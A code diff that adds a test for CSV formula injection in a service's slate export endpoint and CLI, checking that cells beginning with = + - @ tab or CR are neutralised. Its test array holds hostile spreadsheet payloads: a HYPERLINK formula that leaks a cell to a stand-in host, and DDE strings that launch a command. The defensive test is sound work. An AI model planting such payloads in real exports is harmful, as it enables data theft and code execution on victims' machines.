@@ -1,9 +1,12 @@
 /**
  * Batch export: the origin's GET /v1/export (source=slates) and `npm run export` stream the same rows — the
- * slates the nightly job wrote to KV, i.e. what the edge serves — filtered by version and segment.
+ * slates the nightly job wrote to KV, i.e. what the edge serves — filtered by version and segment. CSV cells
+ * a spreadsheet would run as formulas (OWASP: starting with = + - @ tab CR) are neutralised by both.
  */
 import { rm } from 'node:fs/promises';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { parse as parseCsv } from 'csv-parse/sync';
+import { slateKey, versionMetaKey } from '../../shared/kv/keys.ts';
 import type { KvWriter } from '../../shared/kv/writer.ts';
 import { cardOf, NAMESPACE_ID, openKv, slateOf, writeVersion } from '../edge/support.ts';
 import { spawnScript, tempDir } from '../nightly/helpers.ts';
@@ -70,4 +73,37 @@ describe('export of the written slates', () => {
     expect((await fetch(`${origin.url}/v1/export?version=nope`, { headers: auth })).status).toBe(404);
     expect((await fetch(`${origin.url}/v1/export?bogus=1`, { headers: auth })).status).toBe(400);
   });
+});
+
+describe('CSV formula injection (issue 12.7)', () => {
+  const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\tTabbed title', '\rCarriage title'];
+
+  it('neutralises every cell starting with = + - @ tab or CR, in GET /v1/export and npm run export alike', async () => {
+    const writer = await openKv(persistTo);
+    const now = Date.now();
+    // A finished version that is not live (meta written, pointer untouched): exported by name.
+    await writer.putMany([
+      ...HOSTILE.map((reason, n) => ({ key: slateKey('vinj', { kind: 'user', id: `u${n}` }), value: slateOf('vinj', ['i1', 'i2'], now, reason) })),
+      { key: slateKey('vinj', { kind: 'segment', name: '-gamers' }), value: slateOf('vinj', ['i3'], now, '=1+1') },
+      { key: versionMetaKey('vinj'), value: JSON.stringify({ version: 'vinj' }) },
+    ]);
+    await writer.close();
+    const fromOrigin = await (await fetch(`${origin.url}/v1/export?version=vinj&format=csv`, { headers: auth })).text();
+    const cli = await spawnScript('scripts/export.ts', ['--persist-to', persistTo, '--namespace-id', NAMESPACE_ID, '--version', 'vinj', '--format', 'csv']).done;
+    expect(cli.code, cli.stderr).toBe(0);
+    for (const csv of [fromOrigin, cli.stdout]) {
+      const rows = parseCsv(csv, { relax_column_count: false }) as string[][];
+      expect(rows[0]).toEqual(['version', 'model_version', 'subject', 'id', 'segment', 'rank', 'item_id', 'score', 'reason']);
+      const data = rows.slice(1);
+      expect(data).toHaveLength(HOSTILE.length * 2 + 1);
+      for (const row of data) {
+        expect(row).toHaveLength(9);
+        for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
+      }
+      // The text is kept, only made inert: each hostile reason appears with the ' prefix.
+      const reasons = new Set(data.map((r) => r[8]));
+      for (const reason of HOSTILE) expect(reasons).toContain(`'${reason}`);
+      expect(data.find((r) => r[2] === 'segment')).toEqual(expect.arrayContaining(["'-gamers", "'=1+1"]));
+    }
+  }, 60_000);
 });
